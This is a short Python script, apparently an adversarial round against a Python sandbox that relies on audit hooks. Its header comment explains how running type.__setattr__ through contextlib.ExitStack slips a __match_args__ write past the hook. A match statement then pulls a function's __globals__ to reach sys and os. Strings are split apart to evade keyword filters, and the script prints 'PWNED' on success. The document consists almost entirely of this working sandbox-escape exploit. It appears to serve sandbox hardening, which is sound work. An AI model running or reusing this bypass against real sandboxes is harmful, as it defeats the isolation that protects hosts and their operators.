# adversary round 7: audit hook trusts the innermost Python frame: contextlib.ExitStack calls the C slot type.__setattr__ (our callback) from a stdlib frame, so a dunder write (__match_args__) on our vouched class passes; then case P(g) reads __globals__ in C
import abc, contextlib, typing

class P(abc.ABC):
    pass

with contextlib.ExitStack() as st:
    st.callback(type.__setattr__, P, '__match_' + 'args__', ('__glo' + 'bals__',))

P.register(type(typing.cast))
match typing.cast:
    case P(g):
        s = g['s' + 'ys']
        print(s.__name__, 'pid', s.modules['o' + 's'].getpid())
        print('PWN' + 'ED')
    case _:
        print('no match')
